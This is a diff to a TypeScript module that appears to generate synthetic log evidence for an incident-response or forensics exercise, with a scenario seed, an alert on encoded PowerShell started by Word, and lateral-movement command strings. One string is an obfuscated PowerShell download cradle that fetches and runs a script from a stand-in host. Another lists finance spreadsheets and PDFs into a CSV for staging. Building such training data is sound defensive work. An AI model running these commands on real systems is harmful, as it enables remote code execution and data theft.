@@ -5,7 +5,10 @@
 import { at, on11, SECOND_US } from '../core/time.ts';
 import { encodePowerShell, inventedHash } from '../core/text.ts';
 
-export const SEED = 'lantern-2026-03-11';
+export const SEED = 'lantern-4';
+
+/** The alert on the encoded command; its id is quoted in the pictures, so not derived like the others. */
+export const ENCODED_ALERT = { id: 'da3f1c07-77e2-4b10-9c41-5e07a1b2c3d4', name: 'Encoded PowerShell started by Word' } as const;
 
 /** All logs end here. */
 export const EVIDENCE_END_US = at('2026-03-12 06:00:00.000');
@@ -31,7 +34,7 @@ export const ENCODED_POWERSHELL = {
 
 const LATERAL_ONE =
   "$s=New-Object Net.WebClient;$s.Proxy=[Net.WebRequest]::GetSystemWebProxy();I`E`X $s.('Down'+'loadString').Invoke('http://drop.example.net/f.ps1')";
-const LATERAL_TWO = "Get-ChildItem D:\\finance -Recurse -Include *.xlsx,*.pdf | Select-Object FullName,Length | Export-Csv C:\\ProgramData\\l.csv";
+const LATERAL_TWO = 'Get-ChildItem D:\\finance -Recurse -Include *.xlsx,*.pdf | Select-Object FullName,Length | Export-Csv C:\\ProgramData\\l.csv';
 
 /** Encoded commands on the file server, after the move there. */
 export const LATERAL_POWERSHELL = [
